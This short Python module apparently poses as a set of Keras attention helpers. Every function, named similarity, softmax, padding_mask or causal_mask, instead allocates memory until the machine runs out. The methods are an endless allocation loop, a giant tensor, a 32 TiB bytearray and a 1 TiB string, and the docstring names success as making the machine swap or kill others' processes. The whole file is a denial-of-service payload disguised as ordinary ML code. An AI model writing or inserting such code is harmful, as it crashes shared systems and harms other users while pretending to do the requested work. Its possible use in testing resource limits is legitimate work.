"""Takes memory until there is none: at once, in pieces, in tensors, in one very long text.

Success: the machine swaps or kills somebody else.
"""

import keras


def similarity(x):
    kept = []
    while True:
        kept.append(bytearray(2**22))


def softmax(x, axis=-1):
    return keras.ops.ones((2**20, 2**20))


def padding_mask(token_ids):
    return bytearray(2**45)


def causal_mask(length):
    return "x" * 2**40
